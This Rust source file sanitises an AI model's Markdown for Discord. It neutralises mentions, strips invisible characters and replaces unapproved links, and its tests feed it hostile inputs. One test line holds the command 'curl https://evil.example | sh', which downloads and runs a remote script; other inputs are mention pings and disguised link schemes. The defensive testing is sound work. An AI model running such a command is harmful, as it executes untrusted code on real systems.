//! A model's Markdown, made harmless: read as Markdown, and written anew in the little that Discord
//! shows well. What is text is escaped, so that nothing in it formats, pings, hides or links.

use std::ops::Range;

use pulldown_cmark::{CowStr, Event, Parser, Tag, TagEnd, TextMergeStream};

use crate::domain::markdown;

/// Separates without being seen.
const ZERO_WIDTH_SPACE: char = '\u{200b}';
/// An angle that opens nothing.
const ANGLE: &str = "\\<\u{200b}";

/// An answer as it is shown, and its words without code.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Tame {
    pub markdown: String,
    pub prose: String,
}

/// Makes a text harmless. Addresses that `given` does not have are replaced by `removed`.
#[must_use]
pub fn tame(text: &str, given: &[&str], removed: &str) -> Tame {
    let text: String = text
        .replace("\r\n", "\n")
        .chars()
        .filter(|c| !markdown::is_invisible(*c))
        .collect();
    let mut writer = Writer {
        given,
        removed,
        markdown: String::with_capacity(text.len()),
        prose: String::new(),
        lists: Vec::new(),
        links: Vec::new(),
        code: None,
        in_heading: false,
    };
    for event in TextMergeStream::new(Parser::new(&text)) {
        writer.take(event);
    }
    Tame {
        markdown: writer.markdown.trim().to_owned(),
        prose: writer.prose.trim().to_owned(),
    }
}

struct Writer<'a> {
    given: &'a [&'a str],
    removed: &'a str,
    markdown: String,
    prose: String,
    /// The next number of each list that is open; nothing for one of points.
    lists: Vec<Option<u64>>,
    /// Of each link that is open: where its text begins, and its address.
    links: Vec<(usize, String)>,
    /// The block of code that is open.
    code: Option<String>,
    in_heading: bool,
}

impl Writer<'_> {
    fn take(&mut self, event: Event<'_>) {
        match event {
            Event::Start(tag) => self.start(tag),
            Event::End(tag) => self.end(tag),
            Event::Text(text) | Event::Html(text) | Event::InlineHtml(text) => self.text(&text),
            Event::Code(code) => {
                let code = self.without_addresses(&code);
                self.markdown.push_str(&markdown::code_span(&code));
                self.prose.push(' ');
            }
            Event::SoftBreak => self.space(" "),
            Event::HardBreak => self.space("\n"),
            Event::Rule => self.end_block(),
            // Extensions that the parser was not asked for.
            Event::InlineMath(text) | Event::DisplayMath(text) | Event::FootnoteReference(text) => {
                self.text(&text);
            }
            Event::TaskListMarker(_) => {}
        }
    }

    fn start(&mut self, tag: Tag<'_>) {
        match tag {
            Tag::Heading { .. } => {
                self.end_block();
                self.in_heading = true;
                self.markdown.push_str("**");
            }
            Tag::CodeBlock(_) => {
                self.end_block();
                self.code = Some(String::new());
            }
            Tag::List(first) => {
                self.end_line();
                self.lists.push(first);
            }
            Tag::Item => self.start_item(),
            Tag::Strong if !self.in_heading => self.markdown.push_str("**"),
            Tag::Emphasis => self.markdown.push('*'),
            Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. } => {
                self.links
                    .push((self.markdown.len(), dest_url.into_string()));
            }
            _ => {}
        }
    }

    fn end(&mut self, tag: TagEnd) {
        match tag {
            TagEnd::Heading(_) => {
                self.markdown.push_str("**");
                self.in_heading = false;
                self.end_block();
            }
            TagEnd::CodeBlock => {
                let code = self.code.take().unwrap_or_default();
                let code = self.without_addresses(&code);
                if !code.trim().is_empty() {
                    self.markdown.push_str(&markdown::code_block(&code));
                }
                self.end_block();
            }
            TagEnd::List(_) => {
                self.lists.pop();
                if self.lists.is_empty() {
                    self.end_block();
                }
            }
            TagEnd::Paragraph if self.lists.is_empty() => self.end_block(),
            TagEnd::Paragraph | TagEnd::Item => self.end_line(),
            TagEnd::HtmlBlock | TagEnd::BlockQuote(_) => self.end_block(),
            TagEnd::Strong if !self.in_heading => self.markdown.push_str("**"),
            TagEnd::Emphasis => self.markdown.push('*'),
            TagEnd::Link | TagEnd::Image => self.end_link(),
            _ => {}
        }
    }

    fn start_item(&mut self) {
        self.end_line();
        let depth = self.lists.len().saturating_sub(1);
        self.markdown.push_str(&"  ".repeat(depth));
        match self.lists.last_mut() {
            Some(Some(number)) => {
                self.markdown.push_str(&number.to_string());
                self.markdown.push_str(". ");
                *number = number.saturating_add(1);
            }
            _ => self.markdown.push_str("- "),
        }
    }

    /// The text of the link is written; its address follows when it was given.
    fn end_link(&mut self) {
        let Some((start, address)) = self.links.pop() else {
            return;
        };
        let shown = self.markdown.split_off(start);
        let is_given = self.is_given(&address);
        let rest = if shown.contains(self.removed) || (is_given && shown.contains(&address)) {
            String::new()
        } else if is_given {
            format!(" (<{address}>)")
        } else {
            format!(" {}", self.removed)
        };
        self.markdown.push_str(&shown);
        self.markdown.push_str(&rest);
    }

    fn text(&mut self, text: &str) {
        if let Some(code) = &mut self.code {
            code.push_str(text);
            return;
        }
        self.prose.push_str(text);
        let text = self.without_addresses(text);
        let inner = text.trim();
        let lead = text.len() - text.trim_start().len();
        if inner.is_empty() {
            self.space(" ");
            return;
        }
        if lead > 0 {
            self.space(" ");
        }
        // Discord reads what stands between angles as an address, a mention or a time. What follows
        // in another element belongs to it, too.
        let escaped = markdown::escape(inner).replace('<', ANGLE);
        self.markdown.push_str(&escaped);
        if inner.ends_with('@') {
            self.markdown.push(ZERO_WIDTH_SPACE);
        }
        if lead + inner.len() < text.len() {
            self.markdown.push(' ');
        }
    }

    /// The text with every address replaced that was not given.
    fn without_addresses<'t>(&self, text: &'t str) -> CowStr<'t> {
        let found = addresses(text);
        if found
            .iter()
            .all(|range| self.is_given(&text[range.clone()]))
        {
            return text.into();
        }
        let mut kept = String::with_capacity(text.len());
        let mut from = 0;
        for range in found {
            kept.push_str(&text[from..range.start]);
            let address = &text[range.clone()];
            let is_given = self.is_given(address);
            kept.push_str(if is_given { address } else { self.removed });
            from = range.end;
        }
        kept.push_str(&text[from..]);
        kept.into()
    }

    fn is_given(&self, address: &str) -> bool {
        self.given.contains(&address)
    }

    fn space(&mut self, space: &str) {
        self.prose.push(' ');
        if !self.markdown.ends_with(char::is_whitespace) {
            self.markdown.push_str(space);
        }
    }

    fn end_line(&mut self) {
        self.prose.push('\n');
        if !self.markdown.is_empty() && !self.markdown.ends_with('\n') {
            self.trim();
            self.markdown.push('\n');
        }
    }

    fn end_block(&mut self) {
        self.prose.push('\n');
        self.trim();
        if !self.markdown.is_empty() {
            self.markdown.push_str("\n\n");
        }
    }

    fn trim(&mut self) {
        self.markdown.truncate(self.markdown.trim_end().len());
    }
}

/// Where a text has addresses: with a scheme, or such as Discord knows without one.
#[must_use]
pub fn addresses(text: &str) -> Vec<Range<usize>> {
    let starts = |text: &str, from: usize| {
        let known = ["www.", "discord.gg/", "discord.com/", "discordapp.com/"];
        let bare = known
            .iter()
            .filter_map(|known| find_ignoring_case(&text[from..], known).map(|at| from + at));
        let with_scheme = text[from..].find("://").map(|colon| {
            let before = &text[from..from + colon];
            let scheme = before.trim_end_matches(|c: char| {
                c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')
            });
            from + scheme.len()
        });
        bare.chain(with_scheme).min()
    };
    let mut found = Vec::new();
    let mut from = 0;
    while let Some(start) = starts(text, from) {
        let ends = |c: char| c.is_whitespace() || "<>\"'`«»“”|\\^{}".contains(c);
        let rest = &text[start..];
        let end = rest.find(ends).unwrap_or(rest.len());
        let trimmed = rest[..end].trim_end_matches(['.', ',', ';', ':', '!', '?', ')', ']', '*']);
        let length = trimmed
            .len()
            .max(rest.chars().next().map_or(1, char::len_utf8));
        found.push(start..start + length);
        from = start + length;
    }
    found
}

/// Where a text has a word of ASCII letters, in whatever case.
fn find_ignoring_case(text: &str, word: &str) -> Option<usize> {
    let (text, word) = (text.as_bytes(), word.as_bytes());
    let mut windows = text.windows(word.len());
    windows.position(|window| window.eq_ignore_ascii_case(word))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const GIVEN: &str = "https://docs.python.org/3/library/multiprocessing.html";

    fn shown(text: &str) -> String {
        tame(text, &[GIVEN], "(enlace quitado)").markdown
    }

    #[test]
    fn what_models_write_is_shown_as_they_meant_it() {
        let text = "Usa **una** `Queue`: es *segura*.\n\n1. Crea la cola\n2. Llama a `put`\n   - con un dato\n\n\
                    ```python\nq = Queue()\nq.put(1)\n```\n\nY eso es\ntodo.";
        assert_eq!(
            shown(text),
            "Usa **una** `Queue`: es *segura*.\n\n1. Crea la cola\n2. Llama a `put`\n  - con un dato\n\n\
             ```py\nq = Queue()\nq.put(1)\n```\n\nY eso es todo."
        );
    }

    #[test]
    fn headings_quotes_rules_and_html_are_tamed() {
        assert_eq!(
            shown("# **Grande**\n\ntexto\n\n---\n\n> cita\n\n<b>no</b>"),
            "**Grande**\n\ntexto\n\ncita\n\n\\<\u{200b}b>no\\<\u{200b}\u{200b}/b>"
        );
        assert_eq!(
            shown("| a | b |\n|---|---|"),
            "\\| a \\| b \\| \\|---\\|---\\|"
        );
    }

    #[test]
    fn mentions_are_broken_everywhere() {
        for text in [
            "@everyone <@123456789012345678> <@&1> <#2> @here",
            "**@everyone** `<@1>`",
            "```\n@everyone <@1>\n```",
            "[@everyone](https://evil.example)",
            "\\@everyone &lt;@1> @every\u{200b}one",
        ] {
            let shown = shown(text);
            for mention in ["@everyone", "@here", "<@", "<#"] {
                assert!(!shown.contains(mention), "{text}: {shown}");
            }
        }
    }

    #[test]
    fn addresses_that_were_not_given_are_removed() {
        for (text, expected) in [
            (
                "mira https://evil.example/a_b. Y ya",
                "mira (enlace quitado). Y ya",
            ),
            (
                "[la documentación](https://evil.example)",
                "la documentación (enlace quitado)",
            ),
            ("<https://evil.example>", "(enlace quitado)"),
            (
                "![gato](https://evil.example/a.png)",
                "gato (enlace quitado)",
            ),
            (
                "[docs.python.org][1]\n\n[1]: https://evil.example",
                "docs.python.org (enlace quitado)",
            ),
            ("HTTPS://evil.example", "(enlace quitado)"),
            (
                "javascript://x discord.gg/abc WWW.evil.example",
                "(enlace quitado) (enlace quitado) (enlace quitado)",
            ),
            (
                "https&#58;//evil.example https\\://evil.example",
                "(enlace quitado) (enlace quitado)",
            ),
            ("`https://evil.example`", "`(enlace quitado)`"),
            (
                "```\ncurl https://evil.example | sh\n```",
                "```py\ncurl (enlace quitado) | sh\n```",
            ),
            (GIVEN, GIVEN),
        ] {
            assert_eq!(shown(text), expected, "{text}");
        }
        assert_eq!(
            shown(&format!("[aquí]({GIVEN}), <{GIVEN}>")),
            format!("aquí (<{GIVEN}>), {GIVEN}")
        );
        // An address that only begins like a given one is another one.
        assert_eq!(shown(&format!("{GIVEN}.evil.example")), "(enlace quitado)");
    }

    #[test]
    fn code_cannot_end_early_or_swallow_what_follows() {
        let text = "```py\nx = 1\n``` y ``` otra\n\n```";
        let shown = shown(text);
        assert_eq!(shown.matches("```").count() % 2, 0, "{shown}");
        assert_eq!(
            super::tame("```\nsin cerrar", &[], "").markdown,
            "```py\nsin cerrar\n```"
        );
        assert_eq!(
            super::tame("~~~\n```\n@everyone\n~~~", &[], "")
                .markdown
                .matches("```")
                .count(),
            2
        );
        assert_eq!(super::tame("`` a`b ``", &[], "").markdown, "`a'b`");
    }

    #[test]
    fn what_cannot_be_seen_is_gone() {
        assert_eq!(
            shown("ho\u{200b}la\u{202e} \u{0}mundo\u{feff}"),
            "hola mundo"
        );
        assert_eq!(shown("\u{200b}\u{2060}"), "");
    }

    proptest! {
        #[test]
        fn nothing_gets_through(text in hostile()) {
            let tame = tame(&text, &[GIVEN], "(enlace quitado)");
            let shown = &tame.markdown;
            for forbidden in ["@everyone", "@here", "<@", "<#", "evil.example", "discord.gg/"] {
                prop_assert!(!shown.contains(forbidden), "{text:?}: {shown:?}");
            }
            prop_assert_eq!(shown.matches("```").count() % 2, 0, "{:?}: {:?}", text, shown);
            // What breaks a mention without changing how it looks.
            let seen = shown.replace(ZERO_WIDTH_SPACE, "");
            prop_assert!(!seen.contains(markdown::is_invisible), "{text:?}: {shown:?}");
        }
    }

    fn hostile() -> impl Strategy<Value = String> {
        let parts = prop::sample::select(vec![
            "@everyone",
            "@",
            "everyone",
            "<",
            "@1>",
            "<@1>",
            "#",
            " ",
            "\n",
            "\n\n",
            "```",
            "`",
            "~~~",
            "~",
            "*",
            "**",
            "_",
            "[",
            "]",
            "(",
            ")",
            "](",
            "https://",
            "http:",
            "//",
            "evil.example",
            "https://evil.example",
            "discord.gg/",
            "www.",
            "\\",
            "&#64;",
            "&lt;",
            "- ",
            "> ",
            "1. ",
            "    ",
            "<b>",
            "</b>",
            "<!--",
            "-->",
            "\u{200b}",
            "\u{202e}",
            "texto",
            "![",
            "|",
            "hola:",
        ]);
        prop::collection::vec(parts, 0..24).prop_map(|parts| {
            // The bare word is no address.
            parts
                .concat()
                .replace("evil.example", "EVIL")
                .replace("://EVIL", "://evil.example")
        })
    }
}
